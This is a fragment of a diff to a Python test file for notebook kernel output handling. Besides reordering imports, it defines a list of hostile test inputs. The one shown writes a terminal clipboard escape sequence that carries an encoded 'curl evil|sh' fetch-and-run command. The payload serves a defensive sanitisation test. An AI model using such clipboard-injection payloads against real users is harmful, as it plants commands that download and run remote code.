@@ -18,9 +18,8 @@ from pathlib import Path
 
 import nbformat
 import pytest
-from nbformat.v4 import new_code_cell, new_notebook
-
 from kernel_support import ROOT, embedded_env, install_kernelspec
+from nbformat.v4 import new_code_cell, new_notebook
 
 HOSTILE = [  # 'pw' + 'ned' and the like: the shown source must not hold the words the output must lose
     "import sys, base64\nsys.stdout.write('osc52:\\x1b]52;c;' + base64.b64encode(b'curl evil|sh').decode() + '\\x07ok1\\n')",
